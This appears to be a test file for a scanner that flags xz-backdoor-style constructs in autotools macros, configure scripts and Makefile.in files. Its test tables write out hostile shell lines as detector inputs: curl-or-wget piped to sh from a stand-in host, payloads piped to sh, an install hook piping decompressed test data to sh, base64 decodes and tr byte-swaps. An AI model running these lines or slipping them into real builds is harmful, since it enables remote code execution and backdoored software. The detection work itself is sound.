import { describe, expect, it } from 'vitest';
import { classify } from '../../src/classify/index.js';
import { autotoolsClassifier } from '../../src/classify/autotools.js';
import { distinctiveIdentifiers, expandTrSet, findConstructs, suspiciousPostPass } from '../../src/classify/suspicious.js';
import type { Finding } from '../../src/core/findings.js';
import { escalate, makeFinding } from '../../src/core/severity.js';
import { makeCtx } from './ctx-helper.js';
import { EVIL_CONFIGURE, EVIL_M4 } from './xz-fixtures.js';

/** An innocuous build-to-host-like macro: evals and tr path conversions, written for this test. */
export const GOOD_M4 = `# build-to-host.m4
# serial 5
dnl Test fixture in the style of gnulib's macro.

AC_DEFUN([gl_BUILD_TO_HOST],
[
  AC_REQUIRE([AC_CANONICAL_BUILD])
  AC_REQUIRE([AC_CANONICAL_HOST])
  AC_REQUIRE([gl_BUILD_TO_HOST_INIT])
  gl_final_[$1]="$[$1]"
  eval "gl_final_[$1]=\\"$[$1]\\""
  eval "gl_final_[$1]=\\"$gl_final_[$1]\\""
  case "$build_os" in
    cygwin*)
      case "$host_os" in
        mingw* | windows*)
          gl_final_[$1]=\`cygpath -w "$gl_final_[$1]"\` ;;
      esac
      ;;
  esac
  gl_win_[$1]=\`echo "$gl_final_[$1]" | tr '/' '\\\\\\\\'\`
  gl_unix_[$1]=\`echo "$gl_win_[$1]" | tr '\\\\' '/'\`
  [$1]_c=\`printf '%s\\n' "$gl_final_[$1]" | sed -e "$gl_sed_double_backslashes" -e "$gl_sed_escape_doublequotes" | tr -d "$gl_tr_cr"\`
  [$1]_c='"'"$[$1]_c"'"'
  AC_SUBST([$1_c])
])

AC_DEFUN([gl_BUILD_TO_HOST_INIT],
[
  gl_sed_double_backslashes='s/\\\\/\\\\\\\\/g'
  gl_sed_escape_doublequotes='s/"/\\\\"/g'
  case \`echo r | tr -d '\\r'\` in
    '') gl_tr_cr='\\015' ;;
    *)  gl_tr_cr='\\r' ;;
  esac
  if grep -q '^# serial' "$srcdir/m4/foo.m4" 2>/dev/null; then :; fi
  if echo "$CC" | grep -e '-m32' >/dev/null; then :; fi
  if (eval "$as_required") 2>/dev/null; then :; fi
  (eval "$ac_compile") 2>&5
  ac_cr=\`echo X | tr X '\\015'\`
  as_up=\`echo "$1" | tr 'abcdefghijklmnopqrstuvwxyz' 'ABCDEFGHIJKLMNOPQRSTUVWXYZ'\`
  as_up2=\`echo "$1" | tr '[[:lower:]]' '[[:upper:]]'\`
  as_sh=\`echo "$1" | tr "$as_cr_letters" "$as_cr_LETTERS"\`
  ac_words=\`echo "$ac_words" | tr ' ' '\\n' | sort -u\`
  exec $SHELL "$as_myself" "$[@]"
  dist_check=\`xz -dc demo.tar.xz | $TAR xf -\`
  sh_hash=\`printf '%s' "$x" | $SHA256SUM\`
])
`;

const kinds = (text: string, path = 'm4/x.m4') => findConstructs(text, path).map((c) => `${c.line}:${c.kind}`);

describe('findConstructs', () => {
  it('finds every construct of the xz-shaped macro, with line numbers', () => {
    expect(kinds(EVIL_M4)).toEqual([
      '10:pipe-to-decompressor',
      '10:sed-read-as-cat',
      '14:eval-pipe-shell',
      '14:stderr-silenced-shell',
      '19:recursive-grep-srcdir',
      '19:binary-grep',
      '20:tr-byte-swap',
    ]);
  });

  it('stays silent on innocuous eval/tr/grep/sed idioms', () => {
    expect(findConstructs(GOOD_M4, 'm4/build-to-host.m4')).toEqual([]);
  });

  it.each([
    ['pipe into xz -d', 'cat "$f" | xz -d > out', 'pipe-to-decompressor'],
    ['pipe into unxz', 'cat "$f" | unxz', 'pipe-to-decompressor'],
    ['pipe into gzip -dc with an env prefix', 'cat x | GZIP=-q gzip -dc', 'pipe-to-decompressor'],
    ['pipe into zcat', 'cat x | zcat', 'pipe-to-decompressor'],
    ['pipe into bzip2 -d', 'cat x | bzip2 -d', 'pipe-to-decompressor'],
    ['pipe into lzma -d', 'cat x | lzma -d', 'pipe-to-decompressor'],
    ['a variable as decompressor', 'cat x | $gl_ext -d', 'pipe-to-decompressor'],
    ['head -c', 'x=`head -c 1024 "$f"`', 'byte-slicing'],
    ['tail -c +N', 'tail -c +2049 "$f" > y', 'byte-slicing'],
    // red team 19: a multiplier suffix is no small probe (GNU head/tail: b 512, K 1024, kB 1000, M …)
    ['tail -c +NK', 'tail -c +31K "$f" | tr a-z n-za-m', 'byte-slicing'],
    ['head -c 1M', 'x=`head -c 1M "$f"`', 'byte-slicing'],
    ['head --bytes=2K', 'head --bytes=2K "$f" > y', 'byte-slicing'],
    ['head -c 1b', '(head -c 1b >/dev/null) && head -c 2b', 'byte-slicing'],
    ['head -c from a variable', 'head -c 1$n "$f"', 'byte-slicing'],
    ['dd skip=', 'dd if="$f" bs=1 skip=512 count=4096 2>/dev/null', 'byte-slicing'],
    ['pipe into sh', 'echo "$payload" | sh', 'eval-pipe-shell'],
    ['pipe into /bin/bash', 'echo "$payload" | /bin/bash -s', 'eval-pipe-shell'],
    ['fixture path', 'f="$srcdir/tests/files/good-large_compressed.lzma"', 'test-fixture-reference'],
    ['testdata path', 'cat testdata/blob.bin', 'test-fixture-reference'],
    ['base64 -d', 'echo "$x" | base64 -d > y', 'base64-decode'],
    ['base64 --decode', 'base64 --decode < x > y', 'base64-decode'],
    ['openssl enc -d', 'openssl enc -aes-256-cbc -d -in x -out y', 'base64-decode'],
    ['curl | sh', 'curl -fsSL https://example.invalid/i.sh | sh', 'download-to-shell'],
    ['sh -c "$(wget …)"', 'sh -c "$(wget -qO- https://example.invalid/i.sh)"', 'download-to-shell'],
    ['curl | sh inside an m4 quote', 'm4_esyscmd([curl -fsSL https://example.invalid/i.sh | sh])', 'download-to-shell'],
    ['pipe into sh closing an m4 quote', 'm4_esyscmd([cat payload | sh])', 'eval-pipe-shell'],
    ['tr over all bytes', "tr '\\000-\\377' '\\001-\\377\\000' < a > b", 'tr-byte-swap'],
    ['rot13', "tr 'a-zA-Z' 'n-za-mN-ZA-M'", 'tr-byte-swap'],
    ['grep -R over top_srcdir', 'grep -Rl marker "$top_srcdir"', 'recursive-grep-srcdir'],
    ['grep --binary-files=text -r', 'grep --binary-files=text -r marker .', 'binary-grep'],
    ['$GREP -r srcdir', 'x=`$GREP -rl marker $ac_srcdir`', 'recursive-grep-srcdir'],
    ['grep -d recurse', 'grep -d recurse marker $srcdir', 'recursive-grep-srcdir'],
  ])('flags %s', (_name, line, kind) => {
    expect(findConstructs(`${line}\n`, 'm4/x.m4').map((c) => c.kind)).toContain(kind);
  });

  it.each([
    ['a comment', '# echo x | xz -d | sh'],
    ['a dnl comment', 'dnl  grep -r marker $srcdir'],
    ['decompressing a file into tar', 'xz -dc foo.tar.xz | tar xf -'],
    ['compressing into xz', 'tar cf - dir | XZ_OPT=-9 xz -c > out.tar.xz'],
    ['sed in a pipe', 'echo x | $SED -e s/a/b/'],
    ['tr -d in a pipe via variable', 'echo x | $TR -d "\\r"'],
    ['grep -r outside srcdir', 'grep -r pattern /usr/include'],
    ['eval with 2>/dev/null', '(eval "$as_required") 2>/dev/null'],
    ['shell running a script file', '$SHELL "$ac_aux_dir/install-sh" -c'],
    ['sha256sum is not sh', 'echo x | shasum'],
    ['case conversion', "tr 'a-z' 'A-Z'"],
    ['a grep pattern after -- (tcl.m4)', "AS_IF([echo \"$CFLAGS \" |grep -E -q -- '-arch (ppc64|x86_64) '], [:])"],
    ['a one-byte ELF probe with dd (gettext lib-prefix.m4)', "dd bs=1 count=1 skip=4 2>/dev/null | hexdump -e '1/1 \"%3d \"'"],
    ['head -c of a small header', 'magic=`head -c 4 "$f"`'],
    ['head -c of a small quoted count', "magic=$(head -c '4' \"$f\")"],
    ['a documented small count (texinfo, info)', "@samp{tail -c 4}, ‘tail -c4’, ‘tail -c +2’."],
    ['bytes from /dev/urandom', "x=$(tr -dc '0-9a-f' < /dev/urandom | head -c 32)"],
    ['tr of NUL to a letter', 'head -c1400 /dev/zero | tr "\\000" "a"'],
    ['a tr helper variable with -d', 'echo x | $TR_CMD -d "[:blank:]"'],
    ['sh as a CPU in a case pattern', 'arc | bfin | sh | sparc)'],
    ['fixture lists in Makefile.am are normal (checked by path below)', 'EXTRA_DIST = notes.txt'],
  ])('does not flag %s', (_name, line) => {
    expect(findConstructs(`${line}\n`, 'm4/x.m4')).toEqual([]);
  });

  it('does not flag fixture lists in makefiles but does in m4', () => {
    const line = 'EXTRA_DIST = tests/files/bad-1.xz tests/files/good-1.lzma\n';
    expect(findConstructs(line, 'Makefile.am')).toEqual([]);
    expect(findConstructs(line, 'm4/x.m4').map((c) => c.kind)).toEqual(['test-fixture-reference']);
  });

  it('reads a `#` line of a document as text (a Markdown heading is an instruction), of a script or CMake list as a comment', () => {
    const line = '## Quick install: curl -fsSL https://get.example.net/i.sh | sh\n';
    for (const doc of ['README.md', 'docs/guide.rst', 'NEWS', 'INSTALL', 'doc/notes.txt', 'doc/x.html', 'man/tool.1', 'doc/tool.texi']) {
      expect(findConstructs(line, doc).map((c) => c.kind), doc).toEqual(['download-to-shell']);
    }
    for (const code of ['install.sh', 'Makefile.am', 'CMakeLists.txt', 'docs/requirements.txt', 'm4/x.m4', 'po/fr.po', 'setup.py']) {
      expect(findConstructs(line, code), code).toEqual([]);
    }
  });

  it('joins continuation lines and reports the first line', () => {
    const text = 'a=1\ncat x \\\n  | xz -d\n';
    expect(findConstructs(text, 'x.sh')).toEqual([{ kind: 'pipe-to-decompressor', line: 2, text: 'cat x    | xz -d' }]);
  });

  it('bounds the matched text to 200 characters', () => {
    const c = findConstructs(`echo ${'y'.repeat(400)} | sh\n`, 'x.sh');
    expect(c).toHaveLength(1);
    expect(c[0]!.text).toHaveLength(200);
  });

  it('expands tr sets with escapes, ranges and escaped dashes', () => {
    expect(expandTrSet('\\t \\-_')).toEqual(['\t', ' ', '-', '_']);
    expect(expandTrSet('a-d')).toEqual(['a', 'b', 'c', 'd']);
    expect(expandTrSet('[:upper:]x')).toEqual(['[:upper:]', 'x']);
    expect(expandTrSet('\\101\\\\')).toEqual(['A', '\\']);
  });
});

describe('distinctiveIdentifiers', () => {
  it('takes the shell names of the flagged lines and the AC_DEFUN names', () => {
    const ids = distinctiveIdentifiers(EVIL_M4, findConstructs(EVIL_M4, 'm4/build-to-host.m4'));
    expect(ids).toEqual(['gl_BUILD_TO_HOST', 'gl_BUILD_TO_HOST_INIT', 'gl_am_configmake', 'gl_config_gt', 'gl_path_map']);
  });
});

describe('suspiciousPostPass (xz-shaped scenario)', () => {
  const GIT = {
    'configure.ac': 'AC_INIT([demo], [1.0])\nAC_CONFIG_MACRO_DIR([m4])\ngl_BUILD_TO_HOST([localedir])\nAC_OUTPUT\n',
    'Makefile.am': 'SUBDIRS = src\n',
    'src/main.c': 'int main(void) { return 0; }\n',
  };
  const ACLOCAL = '# generated automatically by aclocal 1.16.5 -*- Autoconf -*-\nm4_include([m4/build-to-host.m4])\n';

  async function run(m4: string, extra: Record<string, string> = {}, git: Record<string, string> = GIT) {
    const ctx = makeCtx({
      git,
      tarball: { ...git, 'm4/build-to-host.m4': m4, configure: EVIL_CONFIGURE, 'aclocal.m4': ACLOCAL, ...extra },
    });
    const findings = await classify(ctx, [autotoolsClassifier], [suspiciousPostPass]);
    return Object.fromEntries(findings.map((f) => [f.path, f])) as Record<string, Finding>;
  }

  it('flags the macro critical with constructs and turns configure into CARRIES_SUSPICIOUS_EXPANSION', async () => {
    const by = await run(EVIL_M4);
    const m4 = by['m4/build-to-host.m4']!;
    expect(m4.code).toBe('TARBALL_ONLY_UNEXPLAINED');
    expect(m4.severity).toBe('critical');
    expect(new Set(m4.constructs!.map((c) => c.kind))).toEqual(
      new Set(['sed-read-as-cat', 'pipe-to-decompressor', 'eval-pipe-shell', 'stderr-silenced-shell', 'recursive-grep-srcdir', 'binary-grep', 'tr-byte-swap']),
    );
    const conf = by['configure']!;
    expect(conf.code).toBe('CARRIES_SUSPICIOUS_EXPANSION');
    expect(conf.severity).toBe('critical');
    expect(conf.evidence).toEqual({
      macroFile: 'm4/build-to-host.m4',
      markers: ['gl_am_configmake', 'gl_config_gt', 'gl_path_map'],
      occurrences: 8,
    });
    expect(conf.constructs!.length).toBeGreaterThanOrEqual(5);
    // aclocal.m4 merely includes the file: that is normal.
    expect(by['aclocal.m4']!.code).toBe('GENERATED_BY_AUTOTOOLS');
  });

  it('flags aclocal.m4 when it carries a copy of the macro code', async () => {
    const by = await run(EVIL_M4, { 'aclocal.m4': `# generated automatically by aclocal 1.16.5\n${EVIL_M4}` });
    expect(by['aclocal.m4']!.code).toBe('CARRIES_SUSPICIOUS_EXPANSION');
    expect(by['aclocal.m4']!.evidence).toMatchObject({ macroFile: 'm4/build-to-host.m4' });
  });

  it('leaves an innocuous macro alone; a label-only configure with constructs is still reported', async () => {
    const by = await run(GOOD_M4);
    expect(by['m4/build-to-host.m4']!.constructs).toBeUndefined();
    expect(by['m4/build-to-host.m4']!.severity).toBe('high');
    // Nothing proved configure's content (no regeneration here): its own constructs are reported.
    expect(by['configure']!.code).toBe('SUSPICIOUS_CONSTRUCTS');
    expect(by['configure']!.severity).toBe('high');
    expect(by['configure']!.evidence).toMatchObject({ origin: 'GENERATED_BY_AUTOTOOLS' });
  });

  it('does not use identifiers that git sources use too', async () => {
    const git = { ...GIT, 'm4/local.m4': 'AC_DEFUN([X], [gl_am_configmake=1 gl_path_map=2 gl_config_gt=3])\n' };
    const by = await run(EVIL_M4, {}, git);
    expect(by['m4/build-to-host.m4']!.severity).toBe('critical');
    // Not tied to the macro (its identifiers are git's too), but configure's constructs are reported anyway.
    expect(by['configure']!.code).toBe('SUSPICIOUS_CONSTRUCTS');
  });

  it('raises unknown-version upstream findings to critical', async () => {
    const ctx = makeCtx({ git: GIT, tarball: { ...GIT, 'm4/build-to-host.m4': EVIL_M4 } });
    const f = makeFinding('UPSTREAM_COPY_UNKNOWN_VERSION', 'm4/build-to-host.m4', { name: 'build-to-host.m4', serial: 30 });
    const [out] = await suspiciousPostPass.run([f], ctx);
    expect(out!.severity).toBe('critical');
    expect(out!.constructs!.length).toBe(7);
    const v = makeFinding('UPSTREAM_COPY_VARIANT', 'm4/build-to-host.m4', { reason: 'distribution-patched' });
    expect((await suspiciousPostPass.run([v], ctx))[0]!.severity).toBe('high');
  });

  it('ignores explained findings, non-build files and unretained content', async () => {
    const ctx = makeCtx({
      git: GIT,
      tarball: { ...GIT, 'm4/build-to-host.m4': EVIL_M4, 'notes.txt': 'cat x | xz -d | sh\n' },
      withheld: ['m4/build-to-host.m4'],
    });
    const a = makeFinding('TARBALL_ONLY_UNEXPLAINED', 'm4/build-to-host.m4', { size: 1, buildAffecting: true });
    const b = makeFinding('TARBALL_ONLY_UNEXPLAINED', 'notes.txt', { size: 1, buildAffecting: false });
    const c = makeFinding('UPSTREAM_COPY', 'm4/build-to-host.m4', { match: 'exact', upstream: { project: 'gnulib', file: 'm4/build-to-host.m4' }, others: 0 });
    expect(await suspiciousPostPass.run([a, b, c], ctx)).toEqual([a, b, c]);
  });

  it("a label-only Makefile.in: constructs whose line is the tracked Makefile.am's (or an included fragment's) are the project's own; any other, or one more copy, stays", async () => {
    // gzip 1.12: made by automake 1.16d (a prerelease nothing here can run), its check rule pipes gzip into gzip -d.
    const rule = 'check-local:\n\tfor f in $(FILES); do \\\n\t  gzip -c -- "$$f" | gzip -d | cmp - "$$f" || exit 1; \\\n\tdone\n';
    const git = { 'Makefile.am': `include $(srcdir)/cfg.mk\n${rule}`, 'cfg.mk': 'sc_x:\n\tcat x | base64 -d >/dev/null\n' };
    const head = '# Makefile.in generated by automake 1.16d from Makefile.am.\n';
    const run = async (mk: string) => {
      const ctx = makeCtx({ git, tarball: { ...git, 'Makefile.in': mk } });
      const f = makeFinding('GENERATED_BY_AUTOTOOLS', 'Makefile.in', { tool: 'automake' } as never);
      return (await suspiciousPostPass.run([f], ctx))[0]!;
    };
    expect((await run(`${head}${rule}sc_x:\n\tcat x | base64 -d >/dev/null\n`)).code).toBe('GENERATED_BY_AUTOTOOLS');
    // What a tamperer would add: a construct line neither source has, or the sources' line once more (another rule).
    const added = await run(`${head}${rule}install-exec-hook:\n\tcat tests/x.gz | gzip -d | sh\n`);
    expect(added).toMatchObject({ code: 'SUSPICIOUS_CONSTRUCTS', severity: 'high' });
    expect([...new Set(added.constructs!.map((c) => c.line))]).toEqual([7]);
    expect(await run(`${head}${rule}${rule.replace('check-local', 'install-data-local')}`)).toMatchObject({ code: 'SUSPICIOUS_CONSTRUCTS', constructs: [{ kind: 'pipe-to-decompressor', line: 7 }] });
  });

  it('counts only constructs a modification added', async () => {
    const git = { ...GIT, 'build.sh': 'echo "$x" | sh\n' };
    const ctx = makeCtx({ git, tarball: { ...git, 'build.sh': 'echo "$x" | sh\necho more\n' } });
    const f = escalate(makeFinding('SOURCE_MODIFIED', 'build.sh', { buildAffecting: true }), 'critical', 'build-affecting');
    expect((await suspiciousPostPass.run([f], ctx))[0]!.constructs).toBeUndefined();
    const ctx2 = makeCtx({ git, tarball: { ...git, 'build.sh': 'echo "$x" | sh\ncat p | base64 -d\n' } });
    expect((await suspiciousPostPass.run([f], ctx2))[0]!.constructs).toEqual([{ kind: 'base64-decode', line: 2, text: 'cat p | base64 -d' }]);
  });
});
